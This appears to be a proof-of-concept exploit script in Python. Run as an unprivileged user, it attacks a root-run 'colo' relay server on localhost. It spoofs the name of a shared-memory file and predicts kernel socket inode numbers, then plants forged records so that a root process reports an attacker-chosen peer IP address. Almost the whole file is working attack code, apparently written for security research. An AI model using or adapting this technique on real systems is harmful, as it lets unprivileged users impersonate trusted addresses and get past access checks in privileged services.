#!/usr/bin/python3
"""Run as nobody: a CARRIER client of root's colo server at 127.0.0.1:PORT whose segment memfd
is named NAME (default "colo-relayed") and whose header page carries records in the format of
the shim's `colo-relayed` file, naming the server's socket of this very connection with a
forged peer address (its inode predicted: socket inodes come from per-CPU sequential counters,
so the records cover the next inodes of each CPU). A root image exec'd with the connection
inherited reads the memfd as its relayed-names file (service::handover::take_back matches
memfds by name only) and answers getpeername() with the forged address.
Prints what the server's handler says over TCP, and the server socket's real inode.
Usage: memfd_name_spoof.py PORT FORGED_IP [NAME [accept|poll]]"""
import os, socket, struct, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import doorbell_attacker as da

port, forged = int(sys.argv[1]), sys.argv[2]
name = sys.argv[3] if len(sys.argv) > 3 else "colo-relayed"
MODE = sys.argv[4] if len(sys.argv) > 4 else "accept"  # "poll": a server that polls, then accepts
SLOTS = [2, 4, 6] + list(range(8, 56))

def raw(ip, p):
    sa = struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)
    return struct.pack("<I", 16) + sa + bytes(28 - 16)

def next_inodes():
    """The next socket inode on each CPU (per-CPU batches of get_next_ino)."""
    out = []
    cpus = sorted(os.sched_getaffinity(0))
    for cpu in cpus:
        os.sched_setaffinity(0, {cpu})
        s = socket.socket(socket.AF_UNIX)
        out.append(os.fstat(s.fileno()).st_ino)
        s.close()
    os.sched_setaffinity(0, set(cpus))
    return out

real_memfd_create = os.memfd_create
orig_segment = da.segment
PRED = []
def segment(*a):
    os.memfd_create = lambda _n, flags: real_memfd_create(name, flags)
    try:
        fd, m = orig_segment(*a)
    finally:
        os.memfd_create = real_memfd_create
    # The kernel allocates an accepted socket's inode when accept(2) is entered (do_accept's
    # sock_alloc), so the inode of the server's next connection follows the one of the
    # connection it accepted last: a probe over plain TCP (an even local port: no offer) says it.
    if MODE == "poll":
        # A server that polls before accept(2) (sshd) allocates the inode after our connect.
        bases = next_inodes()
        per = len(SLOTS) // len(bases)
        cands = [b + i for b in bases for i in range(per)]
        PROBE[:] = bases
    else:
        per = len(SLOTS) // len(PROBE)
        cands = [b - 1 - i for b in PROBE for i in range(per)]
    for k, ino in zip(SLOTS, cands):
        m[72 * k:72 * k + 72] = struct.pack("<Q", ino) + raw("127.0.0.1", port) + raw(forged, 4242)
    PRED.extend(cands)
    return fd, m
da.segment = segment

def probe():
    """A plain TCP connection (an even local port: no offer) served to its end: the server has
    entered its next accept(2) since, which allocated the next connection's inode then."""
    p = socket.create_connection(("127.0.0.1", port))  # connect(2) picks an even port
    p.settimeout(3)
    while p.recv(4096):
        pass
    p.close()
    time.sleep(0.02)
    return next_inodes()
PROBE = probe() if MODE != "poll" else []
time.sleep(0.05)
c = da.Conn(port, da.CARRIER, "control")
a = da.answer(c.ctl)
mine = c.tcp.getsockname()[1]
ino = None
with open("/proc/net/tcp") as f:
    for line in f.readlines()[1:]:
        fs = line.split()
        if fs[1] == "0100007F:%04X" % port and fs[2] == "0100007F:%04X" % mine:
            ino = int(fs[9])
c.tcp.settimeout(5)
try:
    got = c.tcp.recv(4096).decode(errors="replace").strip()
except socket.timeout:
    got = "nothing within 5 s"
print("answer:", a, "| per-CPU next inodes", PROBE, "| server socket inode", ino, "predicted" if ino in PRED else "not predicted", "| over TCP:", got, flush=True)
